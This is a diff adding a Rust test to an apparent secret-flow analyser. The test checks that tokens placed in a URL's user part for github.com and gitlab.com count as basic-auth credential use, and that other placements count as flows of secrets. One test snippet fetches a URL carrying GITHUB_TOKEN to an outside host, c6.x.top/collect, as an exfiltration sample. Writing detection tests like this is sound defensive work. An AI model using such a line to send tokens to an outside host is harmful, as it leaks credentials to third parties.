@@ -2551,3 +2551,40 @@ fn a_named_part_of_a_container_does_not_carry_where_it_was_opened() {
         "{k:?}"
     );
 }
+
+/// A secret written into a URL before its host (`https://x-access-token:${token}@host/`) is
+/// basic auth: to the service it belongs to, credential use; to a host it does not belong
+/// to, exfiltration to that host. Values after the host stay what the URL sends.
+#[test]
+fn a_secret_in_a_urls_user_information_is_basic_auth() {
+    let f = run(r#"const t = process.env.GITHUB_TOKEN;
+        fetch(`https://x-access-token:${t}@api.github.com/user`);
+        fetch("https://oauth2:" + process.env.GITLAB_TOKEN + "@gitlab.com/api/v4/user");"#);
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    assert_eq!(f.credential_uses.len(), 2, "{:#?}", f.credential_uses);
+    assert!(
+        f.credential_uses
+            .iter()
+            .all(|u| u.position.contains("basic auth") && u.host.is_some()),
+        "{:#?}",
+        f.credential_uses
+    );
+    let f = run(
+        r#"fetch(`https://u:${process.env.GITHUB_TOKEN}@c6.x.top/collect`);
+        fetch(`https://api.github.com/users/${process.env.GITHUB_TOKEN}`);"#,
+    );
+    assert_eq!(f.flows.len(), 2, "{:#?}", f.flows);
+    assert!(
+        f.flows
+            .iter()
+            .all(|fl| fl.kinds.contains(DataKind::SecretEnv)),
+        "{:#?}",
+        f.flows
+    );
+    assert!(
+        f.flows.iter().any(|fl| fl.endpoints == ["c6.x.top"]),
+        "{:#?}",
+        f.flows
+    );
+    assert!(f.credential_uses.is_empty(), "{:#?}", f.credential_uses);
+}
